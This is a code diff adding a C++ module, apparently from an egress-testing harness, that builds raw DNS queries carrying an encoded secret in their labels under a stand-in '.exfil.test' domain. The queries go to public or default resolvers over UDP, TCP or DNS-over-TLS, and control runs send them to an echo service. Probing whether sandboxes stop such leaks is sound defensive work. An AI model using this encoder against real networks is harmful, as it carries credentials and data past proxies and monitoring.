@@ -1,0 +1,70 @@
+// The dns technique: a query whose name carries the secret, sent to a resolver past the proxy. The query alone is the
+// leak: no answer has to come back.
+#include <map>
+
+#include "attacks/carrier.h"
+#include "harness/digest.h"
+
+namespace bottle {
+namespace {
+
+const std::map<std::string, int> kTypes = {{"A", 1}, {"NS", 2}, {"CNAME", 5}, {"NULL", 10}, {"MX", 15}, {"TXT", 16},
+                                           {"AAAA", 28}, {"SRV", 33}, {"HTTPS", 65}, {"ANY", 255}};
+
+std::string as_u16(int value) { return {static_cast<char>(value >> 8), static_cast<char>(value & 0xff)}; }
+
+// RFC 1035 4.1: one question, recursion desired. The id is part of the nonce, so that the message is the same each time
+// that it is built for one attempt.
+std::string query(const std::string& name, int type, const std::string& nonce) {
+  const std::string digest = from_hex(sha256_hex(nonce)).value_or("00");
+  std::string message = digest.substr(0, 2) + as_u16(0x0100) + as_u16(1) + as_u16(0) + as_u16(0) + as_u16(0);
+  std::size_t at = 0;
+  while (at <= name.size()) {
+    const std::size_t dot = std::min(name.find('.', at), name.size());
+    message += static_cast<char>(dot - at);
+    message += name.substr(at, dot - at);
+    at = dot + 1;
+  }
+  return message + '\0' + as_u16(type) + as_u16(1);
+}
+
+Attempt build(const Choice& choice, const Brief& brief) {
+  Attempt attempt{.nonce = brief.nonce};
+  const std::string transport = chosen(choice, "transport", "udp");
+  const std::string secret = carried_secret(choice, brief);
+  const std::string labels = secret.empty() ? "" : as_labels(secret) + ".";
+  const std::string name = labels + brief.nonce + ".exfil.test";
+  const std::string message = query(name, kTypes.at(chosen(choice, "qtype", "A")), brief.nonce);
+
+  std::string server = chosen(choice, "server", "public") == "public" ? brief.route.public_resolver : brief.route.resolver;
+  int port = transport == "dot" ? 853 : 53;
+  if (is_control(brief.arm)) {
+    server = brief.route.echo.address;
+    port = brief.route.echo.port;
+  }
+  attempt.action = {{"action", "dns"}, {"transport", transport}, {"server", server}, {"port", port},
+                    {"message", to_base64(message)}, {"read_ms", 300}};
+  attempt.sent = {segment("query", message)};
+  attempt.channel = "dns over " + transport + " to the echo, prober";
+  attempt.delivered_at = "echo";
+  attempt.secret = chosen(choice, "secret", "none") == "none" ? "" : chosen(choice, "secret", "none");
+  attempt.wall = chosen(choice, "server", "public") == "public" ? Layer::network : Layer::resolver;
+  if (brief.arm == Arm::bare) attempt.place = Place::outside;
+  return attempt;
+}
+
+}  // namespace
+
+Technique make_technique_dns() {
+  std::vector<std::string> types;
+  for (const auto& [name, number] : kTypes) types.push_back(name);
+  return {.name = "dns",
+          .parameters = {{"server", {"public", "default"}},
+                         {"transport", {"udp", "tcp", "dot"}},
+                         {"qtype", types},
+                         {"secret", kSecretKinds},
+                         {"encoding", {"raw", "hex", "base32"}}},
+          .build = build};
+}
+
+}  // namespace bottle
